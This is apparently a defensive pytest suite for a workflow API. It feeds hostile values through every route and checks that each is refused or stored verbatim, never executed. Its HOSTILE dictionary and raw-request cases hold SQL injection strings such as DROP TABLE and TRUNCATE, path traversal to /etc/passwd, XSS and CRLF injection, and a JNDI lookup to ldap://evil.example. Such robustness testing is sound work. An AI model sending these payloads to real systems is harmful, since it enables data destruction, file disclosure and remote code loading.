"""Hostile input through every route: SQL injection, path traversal, control characters, huge strings and odd
Unicode in path parameters, query parameters, JSON fields and keys, headers and upload file names.

Every answer is a 4xx, or a 2xx with the value stored verbatim (read back equal); never a 5xx, and never executed:
the schema is the same after every test, and `'; DROP TABLE workflows; --` comes back as a workflow's name.
Routes are enumerated from app.url_map, so a new route is covered (or, for a JSON body, this test says so).
"""

import io
import json
import re
import socket
import unicodedata
from urllib.parse import quote

import pytest

from tests.support import api_rules, make_pdf

DROP = "'; DROP TABLE workflows; --"
HOSTILE = {
    "sql-drop": DROP,
    "sql-tautology": "' OR '1'='1' --",
    "sql-double-quote": '" OR ""=" ; DELETE FROM runs; --',
    "sql-stacked": "1; TRUNCATE runs, run_steps, run_events CASCADE; SELECT '",
    "sql-dollar": "$$; DROP FUNCTION save_run_steps(uuid, integer, jsonb); $$",
    "sql-comment": "*/ DROP TABLE files; /*",
    "sql-backslash": "\\'; DROP TABLE nodes; --\\",
    "placeholders": "%(name)s %s %% %b {0} {name} $1 :name ? @p",
    "json-breakout": '"}, "name": "x", "a": {"',
    "path-traversal": "../../../../etc/passwd",
    "path-traversal-windows": "..\\..\\..\\windows\\win.ini",
    "path-encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "path-absolute": "/etc/shadow",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "template": "{{7*7}} ${7*7} #{7*7} ${jndi:ldap://evil.example/a}",
    "crlf": "line1\r\nX-Injected: 1\r\n\r\n<html>",
    "control": "\t\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x9b",
    "nul": "before\x00after",
    "lone-surrogate": "half \ud800 a pair",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069",
    "zero-width": "\u200b\u200c\u200d\u2060\ufeffinvisible",
    "combining": "e\u0301 Z\u0351\u0352\u0353\u0354\u0355\u0356",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308",
    "planes": "\U00010000 \U0010fffd \uffff \ufffe \ufffd",
    "cjk-width": "\uff07\uff1b\u3000\uff24\uff32\uff2f\uff30 ｶﾀｶﾅ 日本語",
    "line-separators": "a\u2028b\u2029c\u0085d",
    "empty": "",
    "spaces": "   ",
    "long-200": "x" * 200,
    "long-201": "y" * 201,
    "huge": ("'; DROP TABLE runs; -- \u00fc\U0001f600\u202e " * 4000)[:100_000],
}
HOOK = "https://hooks.example.com/flowline"
# What PostgreSQL text cannot hold (NUL) or UTF-8 cannot encode (a lone surrogate): always refused, never a 500.
UNSTORABLE = {"nul", "lone-surrogate"}
EXPECTED_TABLES = {"workflows", "nodes", "runs", "run_steps", "run_events", "files"}
_PARAM = re.compile(r"<(?:[^:<>]+:)?([^<>]+)>")
_GENERATED_REQUEST_ID = re.compile(r"^[0-9a-f]{32}$")
_VALID_REQUEST_ID = re.compile(r"^[A-Za-z0-9._:\-]{1,128}$")
_IDEMPOTENCY_KEY = re.compile(r"^[!-~]{1,255}$")


# In a URL, a huge value is past any server's request-line limit (gunicorn's is 4094 bytes: 414) well before this.
IN_URL = {**HOSTILE, "huge": HOSTILE["huge"][:6000]}


def each_value(check, *exclude, values=HOSTILE):
    """Run ``check(name, value)`` for every hostile value but ``exclude``; report every failure at once, by value."""
    failures = []
    for name, value in values.items():
        if name in exclude:
            continue
        try:
            check(name, value)
        except AssertionError as exc:
            failures.append(f"--- {name}: {exc}")
    assert not failures, "\n".join(failures)


def _routes(app):
    """Return [(method, rule)] for every route of ``app``, DELETEs last."""
    found = [(method, rule.rule) for rule in api_rules(app) for method in sorted(rule.methods - {"HEAD", "OPTIONS"})]
    return sorted(found, key=lambda route: route[0] == "DELETE")


def _quote(value):
    # A lone surrogate goes out as the bytes UTF-8 would give it (invalid UTF-8), as a hostile client sends it.
    return quote(value, safe="", errors="surrogatepass")


def _path(rule, ids, **override):
    """Return ``rule`` with its parameters filled from ``ids`` (or ``override``, URL-quoted)."""

    def fill(match):
        name = match.group(1)
        return _quote(override[name]) if name in override else ids[name]

    return _PARAM.sub(fill, rule)


def _status_ok(response, *, stored_ok=True):
    """A 4xx, or (when ``stored_ok``) a 2xx; never a 5xx, always the error shape on errors."""
    code = response.status_code
    assert code < 500, (code, response.get_data(as_text=True)[:300])
    if code >= 400:
        assert isinstance(response.json.get("detail"), str), response.get_data(as_text=True)[:300]
    else:
        assert stored_ok and 200 <= code < 300, code
    return code


@pytest.fixture
def world(client, workflow):
    """A workflow with a pass-through formatter and a generative_ai node, a file and a finished sync run."""
    workflow_id = workflow([("formatter", {"rules": []}), ("generative_ai", {"prompt": "p {text}", "model": "m"})])
    nodes = client.get(f"/workflows/{workflow_id}").json["nodes"]
    file_id = client.post(
        "/files",
        data={"file": (io.BytesIO(make_pdf("hostile")), "h.pdf", "application/pdf")},
        content_type="multipart/form-data",
    ).json["file_id"]
    webhook_id = client.post(f"/workflows/{workflow_id}/webhooks", json={"url": HOOK}).json["id"]
    run_id = client.post(f"/workflows/{workflow_id}/run", json={"input_text": "seed"}).json["run_id"]
    [delivery] = client.get(f"/webhooks/{webhook_id}/deliveries").json["deliveries"]
    schedule_id = client.post(f"/workflows/{workflow_id}/schedules", json={"cron": "@daily"}).json["id"]
    assert client.put("/llm-models/m", json={"requests_per_minute": 600}).status_code == 200
    return {
        "workflow_id": workflow_id,
        "node_id": nodes[1]["id"],
        "formatter_id": nodes[0]["id"],
        "file_id": file_id,
        "run_id": run_id,
        "webhook_id": webhook_id,
        "delivery_id": delivery["id"],
        "schedule_id": schedule_id,
        "model": "m",
    }


@pytest.fixture(autouse=True)
def schema_untouched(sql):
    """Nothing any request sent was executed: the same tables, functions and columns before and after."""

    def snapshot():
        return (
            sql.execute(
                "SELECT table_name, column_name, data_type FROM information_schema.columns "
                "WHERE table_schema = 'public' ORDER BY 1, 2"
            ).fetchall(),
            sql.execute(
                "SELECT proname FROM pg_proc WHERE pronamespace = 'public'::regnamespace ORDER BY 1"
            ).fetchall(),
        )

    before = snapshot()
    assert {row["table_name"] for row in before[0]} >= EXPECTED_TABLES
    yield
    assert snapshot() == before


# --- path parameters -------------------------------------------------------------------------------------------


def test_path_parameters(app, client, world):
    def check(_, value):
        checked = 0
        for method, rule in _routes(app):
            for param in _PARAM.findall(rule):
                response = client.open(_path(rule, world, **{param: value}), method=method, json={})
                # Not a UUID, so no such resource: 404 (or 405 when the traversal lands on another route).
                assert 400 <= _status_ok(response, stored_ok=False) < 500, (method, rule, param)
                checked += 1
        assert checked >= 15

    each_value(check, "empty", values=IN_URL)
    # The traversal did not reach anything outside the API either: the seeded workflow is intact.
    assert client.get(f"/workflows/{world['workflow_id']}").status_code == 200


@pytest.mark.parametrize(
    "raw",
    [
        "/workflows/../../../etc/passwd",
        "/files/..%2F..%2Fetc%2Fpasswd",
        "/runs/%00",
        "/workflows/%2e%2e/nodes/%2e%2e",
        "//workflows",
        "/workflows/%ZZ",
        "/files/\u00e9\U0001f600",
    ],
)
def test_raw_paths(client, raw):
    assert 400 <= _status_ok(client.get(raw), stored_ok=False) < 500


# --- query parameters ------------------------------------------------------------------------------------------


# Where the hostile value goes in a query string. Each is a test of its own, so pytest-xdist spreads them over its
# processes (every GET route, the console's pages included, times every value).
QUERY_PLACES = {
    "limit": lambda value: {"limit": value},
    "cursor": lambda value: {"cursor": value},
    "status": lambda value: {"status": value},
    "cursor after a limit": lambda value: {"limit": "2", "cursor": value},
    "parameter name": lambda value: {value or "blank": "1"},
}


@pytest.mark.parametrize("place", QUERY_PLACES.values(), ids=QUERY_PLACES.keys())
def test_query_parameters(app, client, world, place):
    def check(_, value):
        query = place(value)
        for method, rule in _routes(app):
            if method != "GET":
                continue
            path = _path(rule, world)
            response = client.get(path, query_string="&".join(f"{_quote(k)}={_quote(v)}" for k, v in query.items()))
            # 422 where the route reads the parameter (or refuses unknown ones); one that takes none ignores it.
            _status_ok(response)

    each_value(check, values=IN_URL)
    assert client.get(f"/workflows/{world['workflow_id']}/runs").json["runs"], "the run history is intact"


# --- JSON bodies -----------------------------------------------------------------------------------------------


def _send(client, method, path, body):
    return client.open(path, method=method, data=json.dumps(body), content_type="application/json")


def _check_workflow_create(client, world, sql, value):
    response = _send(client, "POST", "/workflows", {"name": value})
    if _status_ok(response) == 200:
        assert client.get(f"/workflows/{response.json['id']}").json["name"] == value
        return True


def _check_workflow_rename(client, world, sql, value):
    response = _send(client, "PATCH", f"/workflows/{world['workflow_id']}", {"name": value})
    if _status_ok(response) == 200:
        assert client.get(f"/workflows/{world['workflow_id']}").json["name"] == value
        return True


def _check_node_create(client, world, sql, value):
    stored = False
    path = f"/workflows/{world['workflow_id']}/nodes"
    for body in (
        {"node_type": "generative_ai", "config": {"prompt": value or "p", "model": value}},
        {"node_type": "generative_ai", "config": {"prompt": value, "model": "m"}},
        {"node_type": "formatter", "config": {"rules": [value]}},
        {"node_type": "extract_text", "config": {"file_id": value}},
        {"node_type": value, "config": {}},
        # A key the type does not know is kept as sent (beside rules: [], so the later sync run's
        # formatters still pass text through).
        {"node_type": "formatter", "config": {"rules": [], value or "k": "v"}},
        {"node_type": "formatter", "config": {}, value or "k": "v"},
    ):
        response = _send(client, "POST", path, body)
        if _status_ok(response) == 200:
            node = client.get(f"{path}/{response.json['node_id']}").json
            assert (node["node_type"], node["config"]) == (body["node_type"], body["config"])
            stored = True
    return stored


def _check_node_patch(client, world, sql, value):
    path = f"/workflows/{world['workflow_id']}/nodes/{world['node_id']}"
    stored = False
    for body in ({"config": {"prompt": value, "model": value}}, {"node_type": value}, {"config": {value or "k": 1}}):
        response = _send(client, "PATCH", path, body)
        if _status_ok(response) == 200:
            assert client.get(path).json["config"] == body["config"]
            stored = True
    return stored


def _check_node_order(client, world, sql, value):
    path = f"/workflows/{world['workflow_id']}/nodes/order"
    for body in ({"node_ids": [value]}, {"node_ids": [world["formatter_id"], value]}, {"node_ids": value}):
        assert _status_ok(_send(client, "PUT", path, body), stored_ok=False) == 422


def _check_sync_run(client, world, sql, value):
    # The workflow starts with a pass-through formatter: the first step's input and output are the input verbatim.
    path = f"/workflows/{world['workflow_id']}/run"
    assert _status_ok(_send(client, "POST", path, {"file_id": value or "x"}), stored_ok=False) == 422
    response = _send(client, "POST", path, {"input_text": value})
    if _status_ok(response) == 200:
        steps = client.get(f"/runs/{response.json['run_id']}").json["steps"]
        assert steps[0]["input_text"] == steps[0]["output_text"] == value
        assert response.json["final_output"].endswith(value)  # the echo provider renders "p {text}"
        return True


def _check_async_run(client, world, sql, value):
    path = f"/workflows/{world['workflow_id']}/runs"
    response = _send(client, "POST", path, {"input_text": value})
    if _status_ok(response) == 202:
        stored = sql.execute("SELECT input->>'input_text' AS text FROM runs WHERE id = %s", (response.json["run_id"],))
        assert stored.fetchone()["text"] == value
        return True


def _check_cancel(client, world, sql, value):
    # Takes no body: whatever is sent is ignored. The seeded run is finished: 409.
    assert (
        _status_ok(_send(client, "POST", f"/runs/{world['run_id']}/cancel", {"reason": value}), stored_ok=False) == 409
    )


def _check_rerun(client, world, sql, value):
    # Takes no body: whatever is sent is ignored. The new run is queued on the seeded run's input.
    response = _send(client, "POST", f"/runs/{world['run_id']}/rerun", {"input_text": value})
    assert _status_ok(response) == 202
    stored = sql.execute("SELECT input->>'input_text' AS text FROM runs WHERE id = %s", (response.json["run_id"],))
    assert stored.fetchone()["text"] == "seed"


def _check_upload(client, world, sql, value):
    """Upload file names are checked in test_upload_file_names; here a JSON body where multipart is expected."""
    assert _status_ok(_send(client, "POST", "/files", {"file": value}), stored_ok=False) == 415


def _check_webhook_create(client, world, sql, value):
    stored = False
    path = f"/workflows/{world['workflow_id']}/webhooks"
    for body in (
        {"url": value},
        {"url": HOOK + "/" + value},
        {"url": HOOK, "events": [value]},
        {"url": HOOK, value: 1},
    ):
        response = _send(client, "POST", path, body)
        if _status_ok(response) == 201:
            assert client.get(f"/webhooks/{response.json['id']}").json["url"] == body["url"]
            stored = True
    return stored


def _check_webhook_patch(client, world, sql, value):
    stored = False
    path = f"/webhooks/{world['webhook_id']}"
    for body in ({"url": value}, {"url": HOOK + "?q=" + value}, {"events": [value]}, {"enabled": value}, {value: 1}):
        response = _send(client, "PATCH", path, body)
        if _status_ok(response) == 200:
            assert client.get(path).json["url"] == body["url"]
            stored = True
    return stored


def _check_rotate_secret(client, world, sql, value):
    # Takes no body: whatever is sent is ignored.
    response = _send(client, "POST", f"/webhooks/{world['webhook_id']}/rotate-secret", {"secret": value})
    assert _status_ok(response) == 200 and response.json["secret"] != value


def _check_delivery_retry(client, world, sql, value):
    # Takes no body: whatever is sent is ignored; the seeded delivery is due again.
    response = _send(client, "POST", f"/deliveries/{world['delivery_id']}/retry", {"status": value})
    assert _status_ok(response) == 202


def _check_schedule_create(client, world, sql, value):
    stored = False
    path = f"/workflows/{world['workflow_id']}/schedules"
    for body in (
        {"cron": value},
        {"cron": "@daily", "timezone": value},
        {"cron": "@daily", "input_text": value},
        {"cron": "@daily", "overlap": value},
        {"cron": "@daily", value: 1},
    ):
        response = _send(client, "POST", path, body)
        if _status_ok(response) == 201:
            assert client.get(f"/schedules/{response.json['id']}").json["input_text"] == body.get("input_text", "")
            stored = True
    return stored


def _check_schedule_patch(client, world, sql, value):
    stored = False
    path = f"/schedules/{world['schedule_id']}"
    for body in ({"cron": value}, {"timezone": value}, {"input_text": value}, {"catchup": value}, {value: 1}):
        response = _send(client, "PATCH", path, body)
        if _status_ok(response) == 200:
            if "input_text" in body:
                assert client.get(path).json["input_text"] == value
            stored = True
    return stored


def _check_llm_model_put(client, world, sql, value):
    stored = False
    for body in (
        {"requests_per_minute": value},
        {"usd_per_million_input_tokens": value},
        {value: 1},
        {"requests_per_minute": 600, value: None},
    ):
        response = _send(client, "PUT", "/llm-models/m", body)
        if _status_ok(response) == 200:
            stored = True
    assert client.get("/llm-models/m").json["requests_per_minute"] == 600
    return stored


BODY_CHECKS = {
    ("PUT", "/llm-models/<model_name:model>"): _check_llm_model_put,
    ("POST", "/workflows/<workflow_id>/schedules"): _check_schedule_create,
    ("PATCH", "/schedules/<schedule_id>"): _check_schedule_patch,
    ("POST", "/workflows/<workflow_id>/webhooks"): _check_webhook_create,
    ("PATCH", "/webhooks/<webhook_id>"): _check_webhook_patch,
    ("POST", "/webhooks/<webhook_id>/rotate-secret"): _check_rotate_secret,
    ("POST", "/deliveries/<delivery_id>/retry"): _check_delivery_retry,
    ("POST", "/workflows"): _check_workflow_create,
    ("PATCH", "/workflows/<workflow_id>"): _check_workflow_rename,
    ("POST", "/workflows/<workflow_id>/nodes"): _check_node_create,
    ("PATCH", "/workflows/<workflow_id>/nodes/<node_id>"): _check_node_patch,
    ("PUT", "/workflows/<workflow_id>/nodes/order"): _check_node_order,
    ("POST", "/workflows/<workflow_id>/run"): _check_sync_run,
    ("POST", "/workflows/<workflow_id>/runs"): _check_async_run,
    ("POST", "/runs/<run_id>/cancel"): _check_cancel,
    ("POST", "/runs/<run_id>/rerun"): _check_rerun,
    ("POST", "/files"): _check_upload,
}


def test_every_route_taking_a_body_is_covered(app):
    with_body = {(m, r) for m, r in _routes(app) if m in ("POST", "PUT", "PATCH")}
    assert with_body == set(BODY_CHECKS), "add a check for the new route's body to BODY_CHECKS"


def test_json_fields_are_refused_or_stored_verbatim(client, world, sql):
    def check(name, value):
        stored = {route: check_route(client, world, sql, value) for route, check_route in BODY_CHECKS.items()}
        if name in UNSTORABLE:
            assert not any(stored.values()), "a value PostgreSQL cannot store was answered as stored"
        elif name == "huge":
            # Longer than a name or a prompt may be, but a fine input text.
            assert (
                stored[("POST", "/workflows/<workflow_id>/run")] and stored[("POST", "/workflows/<workflow_id>/runs")]
            )
            assert not stored[("POST", "/workflows")]
        elif name not in ("empty", "spaces", "long-201"):
            assert stored[("POST", "/workflows")] and stored[("POST", "/workflows/<workflow_id>/nodes")]

    each_value(check)


def test_the_drop_table_name_is_just_a_name(client, sql):
    created = client.post("/workflows", json={"name": DROP})
    assert created.status_code == 200 and created.json["name"] == DROP
    assert client.get(f"/workflows/{created.json['id']}").json["name"] == DROP
    assert DROP in [w["name"] for w in client.get("/workflows").json["workflows"]]
    assert sql.execute("SELECT name FROM workflows WHERE id = %s", (created.json["id"],)).fetchone()["name"] == DROP


@pytest.mark.parametrize(
    "raw",
    [
        b'{"name": "\xff\xfe invalid utf-8"}',
        b'{"name": "a"',
        b'{"name": NaN}',
        b'{"name": "x", "name": "y"',
        b'\xef\xbb\xbf{"name": "bom"}',
        b"[" * 10_000 + b"]" * 10_000,
        b'{"name": ' + b'"' + b"\\" * 1001 + b'"}',
        b'{"name": "\\u0000"}',
        b'{"name": "\\udc00"}',
        b'{"\\u0000": 1}',
        b'{"name": 1e999999}',
    ],
)
def test_malformed_json_bodies(client, raw):
    _status_ok(client.post("/workflows", data=raw, content_type="application/json"))


# --- headers ---------------------------------------------------------------------------------------------------


def test_headers(app, client, world, sql):
    """Idempotency-Key, If-Match and X-Request-ID (and more) on every route. CR/LF cannot be sent as a header
    value (it would end the header): test_raw_requests_through_gunicorn sends them raw."""

    def check(_, value):
        headers = {
            "Idempotency-Key": value,
            "If-Match": value,
            "X-Request-ID": value,
            "Accept": value,
            "Authorization": value,
            "Origin": value,
            "Accept-Language": value,
        }
        for method, rule in _routes(app):
            body = {} if method in ("POST", "PUT", "PATCH") and rule != "/files" else None
            response = client.open(_path(rule, world), method=method, json=body, headers=headers)
            code = _status_ok(response)
            echoed = response.headers["X-Request-ID"]
            assert echoed == value if _VALID_REQUEST_ID.match(value) else _GENERATED_REQUEST_ID.match(echoed), echoed
            if rule.startswith("/workflows/<") and (method == "DELETE" or (method in ("PATCH", "PUT") and code != 422)):
                # An If-Match naming no version this service made matches nothing: nothing was written.
                assert code == 412, (method, rule, code)
            if (method, rule) == ("POST", "/workflows/<workflow_id>/runs"):
                if _IDEMPOTENCY_KEY.match(value):
                    assert code == 202
                    key = sql.execute("SELECT idempotency_key FROM runs WHERE id = %s", (response.json["run_id"],))
                    assert key.fetchone()["idempotency_key"] == value
                    again = client.open(_path(rule, world), method=method, json=body, headers=headers)
                    assert again.json["run_id"] == response.json["run_id"]
                else:
                    assert code == 422
        assert client.get(f"/workflows/{world['workflow_id']}").status_code == 200

    each_value(check, "crlf")


# --- upload file names -----------------------------------------------------------------------------------------


def _is_plain(name):
    """A file name multipart carries unchanged and POST /files keeps verbatim: no folder part, no quote or
    backslash (multipart's quoting), no control characters, no surrounding spaces, 1 to 255 characters."""
    return (
        0 < len(name) <= 255
        and name == name.strip()
        and not set(name) & set('/\\"')
        and not any(unicodedata.category(ch)[0] == "C" for ch in name)
    )


def _check_kept_file(client, response, sent_name):
    kept = client.get(f"/files/{response.json['file_id']}").json
    assert kept["filename"] == response.json["filename"]
    if _is_plain(sent_name):
        assert kept["filename"] == sent_name, "a plain name is kept verbatim"
    # Otherwise only its last path segment, without control characters, is kept: never a path.
    assert kept["filename"] and len(kept["filename"]) <= 255
    assert not set(kept["filename"]) & set("/\\")
    for field in ("filename", "content_type"):
        assert not any(unicodedata.category(ch) in ("Cc", "Cs") for ch in kept[field]), (field, kept[field])


# Where the hostile value goes in an upload's part: (file name, content type) of the value. Each is a test of its
# own, so pytest-xdist spreads the uploads (each extracted in a child process) over its processes.
UPLOAD_PLACES = {
    "filename": lambda value: (value, "application/pdf"),
    "content type": lambda value: (f"{value}.pdf", value or "x"),
    "content type parameter": lambda value: ("ok.pdf", f"application/pdf; name={value}"),
}


@pytest.mark.parametrize("place", UPLOAD_PLACES.values(), ids=UPLOAD_PLACES.keys())
def test_upload_file_names_and_types(client, place):
    data = make_pdf("named")

    def check(_, value):
        filename, content_type = place(value)
        if any(ch in filename + content_type for ch in "\r\n"):
            return  # cannot be sent in a multipart header (test_upload_with_raw_multipart_headers sends them)
        response = client.post(
            "/files", data={"file": (io.BytesIO(data), filename, content_type)}, content_type="multipart/form-data"
        )
        if _status_ok(response) == 201:
            _check_kept_file(client, response, filename)

    each_value(check, "lone-surrogate")  # a test client cannot encode it; test_upload_with_raw_multipart_headers can


def test_upload_with_raw_multipart_headers(client):
    """Bytes a client library would refuse to send: invalid UTF-8, CR, NUL in the part's headers."""
    pdf = make_pdf("raw")
    for disposition in (
        b'form-data; name="file"; filename="\xff\xfe../../x.pdf"',
        b'form-data; name="file"; filename="a\x00b.pdf"',
        b'form-data; name="file"; filename="a\rb\x1b.pdf"',
        b"form-data; name=\"file\"; filename*=UTF-8''..%2F..%2Fetc%2Fpasswd",
        b'form-data; name="file"; filename="' + b"z" * 5000 + b'.pdf"',
    ):
        body = (
            b"--B\r\nContent-Disposition: "
            + disposition
            + b"\r\nContent-Type: application/pdf\x00\x1b\r\n\r\n"
            + pdf
            + b"\r\n--B--\r\n"
        )
        response = client.post("/files", data=body, content_type="multipart/form-data; boundary=B")
        if _status_ok(response) == 201:
            _check_kept_file(client, response, "")


# --- through the real server -----------------------------------------------------------------------------------


def _raw(server, request_bytes):
    """Send ``request_bytes`` to gunicorn as they are; return the status code and the whole answer."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as conn:
        conn.sendall(request_bytes)
        chunks = []
        while chunk := conn.recv(65536):
            chunks.append(chunk)
    answer = b"".join(chunks)
    return int(answer.split(b" ", 2)[1]), answer


def test_raw_requests_through_gunicorn(server):
    workflow_id = server.request("POST", "/workflows", {"name": "raw"})[1]["id"]
    body = json.dumps({"name": HOSTILE["emoji"] + DROP + HOSTILE["bidi"]}, ensure_ascii=False).encode()
    cases = [
        b"GET /workflows/../../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        b"GET /files/..%2F..%2Fetc%2Fpasswd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        b"GET /runs/%00 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        b"GET /workflows/\xff\xfe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        b"GET /workflows?limit=\x00 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        b"GET /workflows HTTP/1.1\r\nHost: x\r\nX-Request-ID: a\x00b\r\nConnection: close\r\n\r\n",
        b"GET /workflows HTTP/1.1\r\nHost: x\r\nX-Request-ID: a\rX-Injected: 1\r\nConnection: close\r\n\r\n",
        b"GET /workflows HTTP/1.1\r\nHost: x\r\nX-Request-ID: \xc3\xa9\xff\r\nConnection: close\r\n\r\n",
        b"GET /workflows HTTP/1.1\r\nHost: x\r\nIf-Match: " + b"9" * 100_000 + b"\r\nConnection: close\r\n\r\n",
        b"GET /workflows/" + b"a" * 10_000 + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        (
            f"PATCH /workflows/{workflow_id} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            f'If-Match: "1"\r\nIdempotency-Key: \xe9\r\nConnection: close\r\nContent-Length: '
        ).encode("latin-1")
        + str(len(body)).encode()
        + b"\r\n\r\n"
        + body,
        (
            f"POST /workflows/{workflow_id}/runs HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            f"Idempotency-Key: ';DROP\tTABLE\x01runs\r\nConnection: close\r\nContent-Length: 2\r\n\r\n{{}}"
        ).encode("latin-1"),
    ]
    for case in cases:
        status, answer = _raw(server, case)
        assert status < 500, (case[:120], answer[:300])
        assert b"X-Injected" not in answer
    renamed = server.request("GET", f"/workflows/{workflow_id}")[1]["name"]
    assert renamed == HOSTILE["emoji"] + DROP + HOSTILE["bidi"], "sent as UTF-8 over the wire, read back verbatim"
    assert server.request("GET", "/readyz")[0] == 200
    log = server.log.read_text()
    assert "unhandled error" not in log and "Traceback" not in log, log[-3000:]
